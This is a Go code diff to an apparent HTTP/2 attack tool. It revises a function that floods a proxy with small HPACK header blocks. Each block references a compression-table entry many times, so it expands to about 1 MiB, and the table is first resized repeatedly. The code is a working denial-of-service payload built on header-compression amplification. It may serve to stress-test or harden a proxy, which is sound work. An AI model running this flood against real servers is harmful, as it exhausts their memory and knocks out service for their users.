@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"fmt"
+	"slices"
 	"strings"
 	"time"
 
@@ -61,7 +62,7 @@ func selectors(length int) func(ctx context.Context, a *attacker) {
 }
 
 // tables sends headers of a few hundred bytes, which stand for almost 1 MiB: each byte is a field in the table of the
-// connection, which one field fills. Its size is changed again and again meanwhile.
+// connection, which one field fills. At first its size is changed again and again.
 func tables(ctx context.Context, a *attacker) {
 	request := headerBlock(
 		field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "proxy"}, field{":path", "/version"},
@@ -70,16 +71,21 @@ func tables(ctx context.Context, a *attacker) {
 	value := strings.Repeat("v", tableSize-overhead-len("a"))
 	fill := append(appendInteger([]byte{0x40}, 0, 7, len("a")), 'a') // literal, which is put into the table
 	fill = append(appendInteger(fill, 0, 7, len(value)), value...)
+	references := bytes.Repeat([]byte{1<<7 | first}, longHead/tableSize)
 	var resize []byte
 	for range 50 {
 		resize = appendInteger(appendInteger(resize, 0x20, 5, 0), 0x20, 5, tableSize) // also empties the table
 	}
 	// The size may change at the beginning of a block only. What follows the method and so on are the references.
-	block := append(append([]byte{}, resize...), request...)
-	block = append(block, fill...)
-	block = append(block, bytes.Repeat([]byte{1<<7 | first}, longHead/tableSize)...)
+	filling := slices.Concat(resize, request, fill, references)
+	short := slices.Concat(request, references)
 	a.onFrames(ctx, 1, func(f *frames, _ int) error {
-		return f.flood(ctx, func() error { return f.block(block) })
+		next := filling
+		return f.flood(ctx, func() error {
+			block := next
+			next = short
+			return f.block(block)
+		})
 	})
 }
 
